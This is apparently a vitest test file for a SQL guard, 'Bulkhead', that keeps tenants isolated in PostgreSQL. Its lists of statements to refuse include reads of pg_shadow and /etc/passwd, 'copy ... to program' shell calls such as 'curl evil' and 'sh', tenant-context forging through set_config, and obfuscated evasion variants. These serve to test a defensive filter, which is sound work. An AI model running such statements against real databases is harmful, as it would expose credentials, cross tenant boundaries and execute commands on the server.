import { beforeAll, describe, expect, it } from 'vitest';
import { createGuard, type Guard, loadGuard, refusalError } from './index.ts';

let guard: Guard;
beforeAll(async () => {
  await loadGuard();
  guard = createGuard({ functions: [], relations: [], statements: [] });
});

/** By hazard; each statement is refused with a `what` that the group's pattern matches. */
const hazards: Record<string, [what: RegExp, statements: string[]]> = {
  'changes a setting of the session': [
    /SET or RESET|DISCARD|SET CONSTRAINTS/,
    [
      "set bulkhead.context = 'v1.forged'",
      "SET LOCAL bulkhead.context TO 'v1.forged'",
      "set session search_path = 'evil'",
      'set role bulkhead_owner',
      'set local role none',
      'reset role',
      'set session authorization default',
      'reset session authorization',
      "set time zone 'UTC'",
      'set row_security = off',
      "set names 'LATIN1'",
      'set standard_conforming_strings = off',
      "set transaction_isolation = 'serializable'",
      "set transaction snapshot '00000003-0000001B-1'",
      'set session characteristics as transaction read only',
      'set xml option document',
      "set schema 'evil'",
      'reset all',
      'reset bulkhead.context',
      'discard all',
      'discard plans',
      'discard sequences',
      'discard temp',
      'set constraints all deferred',
      'set constraints notes_fk immediate',
    ],
  ],
  'prepares, runs or drops a statement by name': [
    /PREPARE|EXECUTE|DEALLOCATE/,
    [
      'prepare p as select 1',
      'prepare "bulkhead:prologue" (text) as select 1',
      'execute p',
      "execute p('x')",
      'deallocate p',
      'deallocate prepare p',
      'deallocate all',
    ],
  ],
  'opens or uses a cursor': [
    /CURSOR|FETCH|CLOSE|CURRENT OF/,
    [
      'declare c cursor for select 1',
      'declare c cursor with hold for select * from notes',
      'fetch all from c',
      'move forward 1 in c',
      'close c',
      'close all',
      'update notes set body = $1 where current of c',
      'delete from notes where current of c',
    ],
  ],
  'talks to or waits for other sessions': [
    /LISTEN|NOTIFY|UNLISTEN|LOCK/,
    [
      'listen jobs',
      'unlisten *',
      'notify jobs',
      "notify jobs, 'payload'",
      'lock table notes in access exclusive mode',
      'lock notes',
    ],
  ],
  'leaves the transaction without its context': [
    /AND CHAIN|two-phase commit/,
    [
      'commit and chain',
      'end and chain',
      'rollback and chain',
      'abort and chain',
      "prepare transaction 'x'",
      "commit prepared 'x'",
      "rollback prepared 'x'",
    ],
  ],
  'runs code that the guard cannot read': [
    /^(DO|CALL)$/,
    [
      'do $$ begin perform 1; end $$',
      "do language plpgsql 'begin commit; end'",
      'call purge()',
      "call other.purge(1, 'x')",
    ],
  ],
  'defines, alters or maintains': [
    /[A-Z]/,
    [
      'create table t (a int)',
      'create temp table t (a int)',
      'create table t as select 1',
      'create materialized view v as select 1',
      'select * into stolen from notes',
      'select 1 into temp stolen',
      'create view v as select 1',
      'create function f() returns int language sql as $$ select 1 $$',
      'create schema s',
      'create extension dblink',
      'create domain d as text check (value <> $$x$$)',
      'create operator = (leftarg = text, rightarg = text, function = f)',
      'create role r',
      'create sequence s',
      'create trigger t after insert on notes execute function f()',
      'create policy p on notes using (true)',
      'create rule r as on select to notes do instead select 1',
      'create index i on notes (id)',
      "alter role app password 'x'",
      "alter role app set search_path = 'x'",
      "alter database db set x.y = 'z'",
      'alter table notes disable row level security',
      'alter table notes no force row level security',
      'alter policy bulkhead_tenant on notes using (true)',
      "alter system set log_statement = 'all'",
      'alter default privileges grant select on tables to public',
      'drop table notes',
      'drop policy bulkhead_tenant on notes',
      'truncate notes',
      'grant select on notes to public',
      'grant owner to app',
      'revoke select on notes from app',
      'reassign owned by a to b',
      "comment on table notes is 'x'",
      "security label on table notes is 'x'",
      'vacuum notes',
      'analyze notes',
      'cluster notes',
      'reindex table notes',
      'refresh materialized view v',
      'checkpoint',
      "load 'x.so'",
      'import foreign schema s from server x into y',
      'explain select 1',
      'explain (analyze, verbose) select * from notes',
      "copy notes to '/tmp/x'",
      "copy notes from '/etc/passwd'",
      "copy notes to program 'curl evil'",
      "copy (select 1) to program 'sh'",
      "copy notes from program 'id'",
    ],
  ],
  'shows a setting that may hold a secret': [
    /^SHOW/,
    ['show bulkhead.context', 'show all', 'show "BULKHEAD.context"', 'show data_directory'],
  ],
  'is more than one statement': [
    /several statements/,
    [
      'select 1; select 2',
      'select 1; drop table notes',
      'begin; set role x; commit',
      ';; select 1 ;; select 2',
    ],
  ],
  'changes or reveals the session by a function': [
    /set_config|current_setting|setseed|lastval|currval|pg_|postgres_fdw/,
    [
      "select set_config('bulkhead.context', '', false)",
      "select pg_catalog.set_config('bulkhead.context', '', true)",
      'select "set_config"($1, $2, false)',
      'select U&"set\\005fconfig"($1, $2, false)',
      'select U&"set!005fconfig" UESCAPE \'!\' ($1, $2, false)',
      'select SET_CONFIG($1, $2, true)',
      'select db.pg_catalog.set_config($1, $2, true)',
      'select set_config(setting_name => $1, new_value => $2, is_local => true)',
      'select set_config(variadic array[$1, $2])',
      "select current_setting('bulkhead.context')",
      "select current_setting('BulkHead.Context', true)",
      "select current_setting(E'bulk\\x68ead.context')",
      "select current_setting(U&'\\0062ulkhead.context')",
      "select current_setting('bulk' || 'head.context')",
      'select current_setting($1)',
      "select current_setting('bulkhead.context'::text)",
      "select current_setting((select 'bulkhead.context'))",
      "select current_setting(setting_name => 'bulkhead.context')",
      'select pg_show_all_settings()',
      'select setseed(0.5)',
      'select lastval()',
      "select currval('notes_id_seq')",
      'select * from pg_prepared_statement()',
      'select * from pg_cursor()',
      'select pg_export_snapshot()',
      'select * from pg_listening_channels()',
      'select postgres_fdw_disconnect_all()',
    ],
  ],
  'calls a function of one argument as if it were a column': [
    /current_setting|setseed|ts_stat|pg_|lo_/,
    [
      "select ('bulkhead.context'::text).current_setting",
      "select s.current_setting from cast('bulkhead.context' as text) s",
      'select s."current_setting" from unnest(array[\'bulkhead.context\']) s',
      'select ($1).current_setting',
      "select (current_setting).current_setting from cast('bulkhead.context' as text) current_setting",
      "select ('select to_tsvector(set_config($$bulkhead.context$$, $$x$$, false))'::text).ts_stat",
      "select (x).ts_stat.word from cast('select body from notes' as text) x",
      "select ((x).ts_stat).word from cast('select body from notes' as text) x",
      'select (0.5::float8).setseed',
      'select (pid).pg_terminate_backend from generate_series(1, 99999) pid',
      'select n.pg_cancel_backend from generate_series(1, 99999) n',
      'select n.pg_advisory_lock from generate_series(1::bigint, 9) n',
      'select 1 from generate_series(1::bigint, 9) n where n.pg_advisory_xact_lock is null',
      'select o.lo_get from cast(16400 as oid) o',
      'select o.lo_unlink from cast(16400 as oid) o',
      'select n.lo_creat from generate_series(1, 9) n',
      'insert into notes (body) select s.current_setting from unnest($1::text[]) s',
      'update notes set body = s.current_setting from unnest($1::text[]) s',
      'delete from notes using unnest($1::text[]) s where s.current_setting is null',
      'select 1 from notes order by ($1::text).current_setting',
    ],
  ],
  'runs SQL that is given as text': [
    /xml|ts_stat|ts_rewrite|dblink|crosstab|connectby|xpath_table|cron/,
    [
      "select query_to_xml('select set_config($$a$$, $$b$$, false)', true, true, '')",
      "select query_to_xml_and_xmlschema('select 1', true, true, '')",
      "select query_to_xmlschema('select 1', true, true, '')",
      "select cursor_to_xml('c', 1, true, true, '')",
      "select table_to_xml('notes', true, true, '')",
      "select schema_to_xml('public', true, true, '')",
      "select database_to_xml(true, true, '')",
      "select * from ts_stat('select body from notes')",
      "select ts_rewrite('a'::tsquery, 'select t, s from x')",
      "select * from dblink('dbname=x', 'select 1') as t (a int)",
      "select dblink_exec('x', 'drop table y')",
      "select public.dblink_connect('x')",
      "select * from crosstab('select 1') as t (a int)",
      "select * from connectby('t', 'a', 'b', 'c', 1) as t (a int)",
      "select * from xpath_table('a', 'b', 'c', 'd', 'e') as t (a int)",
      "select cron.schedule('* * * * *', 'select 1')",
    ],
  ],
  'reaches other sessions, files or what all tenants share': [
    /pg_|lo_|loread|lowrite|setval|currtid2/,
    [
      'select pg_terminate_backend(pid) from workers',
      'select pg_cancel_backend(1)',
      'select pg_advisory_lock(1)',
      'select pg_advisory_xact_lock(1, 2)',
      'select pg_try_advisory_lock_shared(1)',
      'select pg_advisory_unlock_all()',
      "select pg_notify('jobs', 'x')",
      'select lo_create(0)',
      "select lo_import('/etc/passwd')",
      "select lo_from_bytea(0, 'x')",
      'select lo_get(16400)',
      'select loread(0, 100)',
      "select lowrite(0, 'x')",
      "select setval('notes_id_seq', 1)",
      "select pg_read_file('/etc/passwd')",
      "select pg_read_binary_file('x')",
      "select pg_ls_dir('.')",
      "select pg_stat_file('x')",
      'select pg_stat_get_activity(null)',
      'select * from pg_stat_get_backend_idset()',
      'select pg_stat_reset()',
      'select pg_reload_conf()',
      'select pg_switch_wal()',
      "select pg_logical_emit_message(true, 'a', 'b')",
      "select pg_replication_origin_create('x')",
      "select pg_create_logical_replication_slot('a', 'b')",
      'select pg_log_backend_memory_contexts(1)',
      'select pg_lock_status()',
      'select pg_promote()',
      "select currtid2('notes', '(0,1)')",
    ],
  ],
  "reads a relation of the server's, of the session's or of Bulkhead's": [
    /pg_|bulkhead|user_mapping/,
    [
      'select query from pg_stat_activity',
      'table pg_catalog.pg_stat_activity',
      'select * from "pg_stat_statements"',
      'select * from pg_stats',
      'select * from pg_statistic',
      'select * from pg_statio_all_tables',
      'select * from pg_prepared_statements',
      'select * from pg_prepared_xacts',
      'select * from pg_cursors',
      "select setting from pg_settings where name = 'bulkhead.context'",
      "update pg_settings set setting = 'x' where name = 'bulkhead.context'",
      'select * from pg_shadow',
      'select * from pg_authid',
      'select * from pg_file_settings',
      'select * from pg_hba_file_rules',
      'select * from information_schema.user_mapping_options',
      'select * from information_schema._pg_foreign_servers',
      'select * from pg_largeobject',
      'select * from pg_largeobject_metadata',
      'select * from pg_locks',
      'select * from pg_backend_memory_contexts',
      'select * from only (pg_locks)',
      'select * from bulkhead.context_key',
      'select * from "bulkhead"."context_key"',
      'insert into bulkhead.tenant values (1)',
      'select * from pg_temp.x',
      'select * from pg_temp_3.x',
      'select * from pg_toast.pg_toast_2619',
      'copy pg_stat_activity to stdout',
      'copy bulkhead.context_key to stdout',
      'select bulkhead.verify_context($1)',
      'select pg_temp.f()',
    ],
  ],
};

/** Every place of a statement where an expression or a relation can stand. */
const positions = [
  'select 1 from notes where ($)::text is not null',
  'select (select $)',
  'select array(select $)',
  'select exists (select $)',
  'select 1 where 1 in (select 1 from (select $) x)',
  'select * from notes, lateral (select $) x',
  'select * from notes join lateral (select $) x on true',
  'with x as (select $) select 1',
  'with x as materialized (select $) select 1',
  'with recursive x as (select 1 union all select 2 from (select $) y) select 1',
  'with x as (insert into notes select $ returning 1) select 1',
  'with x as (delete from notes where (select $) is null returning 1) select 1',
  'select 1 union all select $',
  'select 1 intersect (select $ except select 2)',
  'select count(*) filter (where $ is null) from notes',
  'select array_agg(id order by $) from notes',
  'select percentile_cont(0.5) within group (order by $) from notes',
  'select sum(1) over (partition by $) from notes',
  'select sum(1) over w from notes window w as (order by $)',
  'select 1 from notes group by rollup ($)',
  'select 1 from notes group by grouping sets (($), ())',
  'select 1 from notes group by 1 having $ is null',
  'select 1 from notes order by $ using <',
  'select distinct on ($) 1 from notes',
  'select 1 limit $',
  'select 1 fetch first ($) rows only',
  'select 1 offset $',
  'select * from notes tablesample bernoulli ($)',
  'select case when $ is null then 1 end',
  'select case 1 when 2 then 3 else $ end',
  'select coalesce(null, $)',
  'select nullif($, 1)',
  'select greatest(1, $)',
  'select array[1, $]',
  'select (array[1])[$]',
  'select (array[1])[1:$]',
  'select row(1, $)',
  'select ($) is distinct from 1',
  'select 1 between 0 and $',
  'select 1 = any ($)',
  'select not ($)',
  'select ($) is true',
  'select ($) is null',
  'select ($) collate "C"',
  'select cast($ as text)',
  'select f(a => $)',
  'select f(variadic $)',
  'select f(distinct $)',
  'select ($).field',
  'select extract(year from $)',
  'select substring($ from 1 for 2)',
  'select position($ in $)',
  'select trim(both $ from $)',
  'select overlay($ placing $ from 1)',
  'select ($) at time zone $',
  'select xmlelement(name a, xmlattributes($ as b), $)',
  'select xmlforest($ as a)',
  'select xmlserialize(content $ as text)',
  'select xmlparse(document $)',
  'select xmlpi(name a, $)',
  "select * from xmltable('/a' passing $ columns b text)",
  "select * from xmltable('/a' passing d columns b text default $)",
  "select json_value($, '$.a')".replace("'$.a'", "'strict a'"),
  "select json_query('{}', 'a' passing $ as x)",
  "select json_value('{}', 'a' default $ on empty)",
  'select json_object(1 : $)',
  'select json_array($, 1)',
  'select json_array(select $)',
  'select json_objectagg(1 : $)',
  'select json_arrayagg($ order by 1)',
  'select json($)',
  'select json_scalar($)',
  'select json_serialize($)',
  "select * from json_table($, 'a' columns (b text path 'b'))",
  "select * from json_table('{}', 'a' columns (b text path 'b' default $ on empty))",
  "select * from json_table('{}', 'a' columns (nested path 'x' columns (b text path 'b' default $ on error)))",
  'select ($) is json',
  'select grouping($) from notes group by 1',
  'insert into notes values ($)',
  'insert into notes (a, b) values (default, $), (1, 2)',
  'insert into notes select $',
  'insert into notes values (1) on conflict (id) where $ is null do nothing',
  'insert into notes values (1) on conflict ((lower($))) do nothing',
  'insert into notes values (1) on conflict (id) do update set a = $',
  'insert into notes values (1) on conflict (id) do update set a = 1 where $ is null',
  'insert into notes values (1) returning $',
  'with x as (select 1) insert into notes values (1) returning (select $)',
  'update notes set a = $',
  'update notes set (a, b) = (select 1, $)',
  'update notes set (a, b) = row(1, $)',
  'update notes set a[$] = 1',
  'update notes set a = 1 from (select $) x',
  'update notes set a = 1 where $ is null',
  'update notes set a = 1 returning with (old as o) $',
  'delete from notes using (select $) x',
  'delete from notes where $ is null',
  'delete from notes returning $',
  'merge into notes using (select $) x on true when matched then do nothing',
  'merge into notes using x on $ is null when matched then do nothing',
  'merge into notes using x on true when matched and $ is null then delete',
  'merge into notes using x on true when matched then update set a = $',
  'merge into notes using x on true when not matched then insert (a) values ($)',
  'merge into notes using x on true when matched then delete returning $',
  'values (1), ($)',
  'select 1 from (values ($)) x',
  'copy (select $) to stdout',
  'copy (delete from notes returning $) to stdout',
  'copy notes from stdin where $ is null',
];

describe('refuses a statement that', () => {
  for (const [hazard, [what, statements]] of Object.entries(hazards)) {
    it.each(statements)(`${hazard}: %s`, (sql) => {
      const verdict = guard.inspect(sql);
      expect(verdict).toMatchObject({ allowed: false, code: 'isolation.statement_refused' });
      if (!verdict.allowed) expect(verdict.what).toMatch(what);
    });
  }
});

describe('looks into every position of a statement', () => {
  it.each(positions)('%s', (position) => {
    const call = position.replaceAll('$', "set_config('a', 'b', false)");
    expect(guard.inspect(call)).toMatchObject({ allowed: false, what: 'set_config' });
    const relation = position.replaceAll('$', '(select 1 from pg_settings)');
    expect(guard.inspect(relation)).toMatchObject({ allowed: false, what: 'pg_settings' });
    const writing = position.replaceAll('$', '(select 1 from pg_catalog.pg_class)');
    expect(guard.inspect(writing)).toMatchObject({ allowed: true });
  });

  it.each([
    "select * from set_config('a', 'b', false)",
    "select * from set_config('a', 'b', false) with ordinality",
    "select * from rows from (now(), set_config('a', 'b', false)) x",
    "select * from notes, lateral set_config('a', 'b', false)",
  ])('functions in FROM: %s', (sql) => {
    expect(guard.inspect(sql)).toMatchObject({ allowed: false, what: 'set_config' });
  });
});

describe('refuses a text that guard and server might read differently', () => {
  it.each([
    ['a NUL', 'select 1\0; drop table notes', 'NUL'],
    ['half a surrogate pair', "select '\ud800'", 'lone surrogate'],
    ['the other half', "select '\udc00'", 'lone surrogate'],
  ])('%s', (_hazard, sql, what) => {
    expect(guard.inspect(sql)).toMatchObject({ allowed: false, what });
  });

  it('folds a dotted capital I as a Turkish single-byte server would', () => {
    expect(guard.inspect("select set_confİg('a', 'b', false)")).toMatchObject({ allowed: false });
    expect(guard.inspect('select * from pg_settİngs')).toMatchObject({ allowed: false });
    expect(guard.inspect('select * from bulKhead.context_key')).toMatchObject({ allowed: false });
  });

  it('a text that is not valid SQL, with the position but without quoting the text', () => {
    const verdict = guard.inspect("select * frm notes where secret = 'hunter2'");
    expect(verdict).toMatchObject({
      allowed: false,
      code: 'isolation.statement_unparsable',
      reason: 'The statement is not valid SQL: syntax error at character 10.',
      position: 10,
      detail: 'syntax error at or near "frm"',
    });
    const unterminated = guard.inspect("select 'hunter2");
    expect(JSON.stringify({ ...unterminated, detail: '' })).not.toContain('hunter2');
  });
});

it('gives a refusal as an error that is safe to show', () => {
  const verdict = guard.inspect('select "pg_stat_<script>"()');
  if (verdict.allowed) throw new Error('unreachable');
  const error = refusalError(verdict);
  expect(error.code).toBe('isolation.statement_refused');
  expect(error.status).toBe(403);
  expect(JSON.stringify(error)).not.toContain('<');
});
